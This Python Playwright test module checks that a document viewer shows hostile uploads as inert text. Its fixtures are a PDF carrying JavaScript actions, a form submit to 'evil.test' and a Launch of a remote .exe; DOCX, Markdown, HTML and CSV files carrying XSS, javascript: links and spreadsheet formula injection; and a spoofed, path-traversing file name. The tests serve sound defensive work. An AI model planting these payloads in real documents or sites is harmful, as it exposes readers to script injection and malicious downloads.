"""Attacks through documents that are shown as they are: nothing runs or is fetched, and what they say is text."""

import re
import zipfile
from base64 import b64encode
from html import escape
from io import BytesIO
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.async_api import expect

from graph.evidence import Identity
from tests.page.attacks import EVIL, LINKS, MARKDOWN, MARKUP
from tests.page.browsing import Visits
from tests.page.english import english
from tests.page.sites import Site
from tests.page.tampering import watched
from tests.unit.pictured_office import with_picture
from tools.library.ingestion import NewDocument

DOCUMENTS = Path(__file__).parents[1] / "fixtures/documents"
SAID = "The lighthouse is lit at dusk."
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><script>pwned()</script></svg>'
NAME = "../\u202efdp.exe \u2066invoice\u2069<img src=x onerror=pwned()>.html"


def hostile_pdf() -> bytes:
    """Write a PDF that would run, go, submit and open: by itself, its page, a field, a link, a file in it."""
    run = "<< /S /JavaScript /JS (pwned\\(\\); app.alert\\(1\\); this.submitForm\\('https://evil.test'\\)) >>"
    go = f"<< /S /URI /URI ({EVIL}/pdf) >>"
    shown = f"BT /F1 12 Tf 72 720 Td ({SAID}) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R /DP 5 0 R >> /AcroForm << /Fields [8 0 R] >>"
        " /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(x.html) 9 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O 5 0 R >>"
        " /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R 8 0 R 11 0 R] >>",
        f"<< /Length {len(shown)} >>\nstream\n{shown}\nendstream",
        run,
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A {go} /AA << /PO 5 0 R >> >>",
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=pwned\\(\\)>) /V (x) /Rect [72 600 200 620]"
        f" /AA << /K 5 0 R /F 5 0 R >> /A {run} >>",
        "<< /Type /Filespec /F (x.html) /EF << /F 10 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 25 >>\nstream\n<script>pwned()</script>  \nendstream",
        f"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /A << /S /Launch /F ({EVIL}/x.exe) >> >>",
    ]
    file, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(file))
        file += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    title = "(<img src=x onerror=pwned\\(\\)>)"
    trailer = f"trailer << /Size {len(objects) + 1} /Root 1 0 R /Info << /Title {title} >> >>\n".encode()
    return file + head + table + trailer + b"startxref\n%d\n%%%%EOF" % len(file)


def hostile_docx() -> bytes:
    """Put every attack into the paragraphs of a Word document, links that run, and a picture that is an SVG."""
    data = with_picture(DOCUMENTS / "handbook.docx", SVG, alt=escape(MARKUP["image"]))
    attacks = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(printable(text))}</w:t></w:r></w:p>' for text in MARKUP.values()
    )
    link = '<w:p><w:hyperlink r:id="rIdEvil" w:anchor="x"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>'
    external = (
        '<Relationship Id="rIdEvil" Type="http://x/hyperlink" Target="javascript:pwned()" TargetMode="External"/>'
    )
    written = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as file, zipfile.ZipFile(written, "w") as made:
        for name in file.namelist():
            part = file.read(name)
            if name == "word/document.xml":
                part = part.replace(b"<w:body>", f"<w:body>{attacks}{link}".encode(), 1)
            elif name == "word/_rels/document.xml.rels":
                part = part.replace(b"</Relationships>", f"{external}</Relationships>".encode())
            made.writestr(name, part)
    return written.getvalue()


def printable(text: str) -> str:
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", "", text)


def hostile_markdown() -> bytes:
    picture = f"![{MARKUP['image']}](data:image/svg+xml;base64,{b64encode(SVG).decode()})"
    posing = f"![x](data:image/png;base64,{b64encode(SVG).decode()})"
    links = "\n\n".join(f"[x]({text}) ![y]({text})" for text in LINKS)
    return "\n\n".join([SAID, picture, posing, *MARKDOWN.values(), *MARKUP.values(), links]).encode("utf-8", "replace")


def hostile_html() -> bytes:
    links = "".join(
        f'<p><a href="{escape(text)}">x</a><img src="{escape(text)}" alt="{escape(text)}"></p>' for text in LINKS
    )
    shown = "".join(f"<p id='question'>{escape(text)}</p>" for text in MARKUP.values())
    raw = "".join(f"<div>{text}</div>" for text in list(MARKUP.values())[:20])
    svg = f"<img alt=V src='data:image/svg+xml,{quote(SVG)}'>{SVG.decode()}"
    return f"<html><body><main><p>{SAID}</p>{shown}{links}{svg}{raw}</main></body></html>".encode("utf-8", "replace")


def hostile_csv() -> bytes:
    rows = [
        f'"{text.replace(chr(34), chr(34) * 2)}",=HYPERLINK("javascript:pwned()"),{EVIL}' for text in MARKUP.values()
    ]
    return "\n".join(["Said,Sum,Where", f"{SAID},1,x", *rows]).encode("utf-8", "replace")


FILES = {
    ".pdf": hostile_pdf,
    ".docx": hostile_docx,
    ".md": hostile_markdown,
    ".html": hostile_html,
    ".csv": hostile_csv,
    ".pptx": lambda: with_picture(DOCUMENTS / "talk.pptx", SVG, alt=escape(MARKUP["vector"])),
}


@pytest.mark.parametrize("suffix", FILES)
async def test_a_hostile_document_is_shown_and_does_nothing(
    chromium_page: Visits, extractive_site: Site, suffix: str
) -> None:
    new = NewDocument(data=FILES[suffix](), name=f"{NAME}{suffix}", title=MARKUP["script"])
    document_id = (await extractive_site.citewell.library.ingestor.ingest(Identity(), new)).document_id
    address = f"{extractive_site.url}/#/documents/{document_id}"
    page = await chromium_page(extractive_site.url, go=False)
    watch = await watched(page, address)
    reader = page.locator(".reader")
    await expect(reader.get_by_role("heading", level=2)).to_have_text(MARKUP["script"])
    await expect(reader.get_by_role("button", name="Document", exact=True)).to_have_attribute("aria-pressed", "true")
    known = {".docx": "Keeper's handbook", ".pptx": "Why lamps"}.get(suffix, SAID)
    await expect(reader.locator(".views")).to_contain_text(known)
    if suffix == ".pdf":
        sheet = page.get_by_role("region", name="Page 1 of 1").locator(".sheet")
        await expect(sheet.locator(".textLayer")).to_contain_text(SAID)
        assert await sheet.locator("a, input, button, iframe, object, embed").count() == 0
        await sheet.click(position={"x": 200, "y": 20})
    if suffix in (".docx", ".pptx"):
        failed = english("viewer.pictureFailed").removesuffix(".")
        await expect(reader.get_by_text(failed)).to_have_count(1)
    if suffix == ".csv":
        await expect(reader.get_by_role("cell", name=MARKUP["script"], exact=True)).to_be_visible()
    assert await reader.locator(".views a").count() == 0, "a document links to nothing"
    await page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    await watch.untouched()


async def test_a_file_is_kept_under_a_name_that_ends_as_it_seems_to(
    chromium_page: Visits, extractive_site: Site
) -> None:
    new = NewDocument(data=SAID.encode(), name=f"{NAME}.md")
    document_id = (await extractive_site.citewell.library.ingestor.ingest(Identity(), new)).document_id
    page = await chromium_page(f"{extractive_site.url}/#/documents/{document_id}")
    async with page.expect_download() as downloading:
        await page.get_by_role("button", name="Download original").click()
    named = (await downloading.value).suggested_filename
    assert named.endswith(".md")
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069/\\<>]", named)
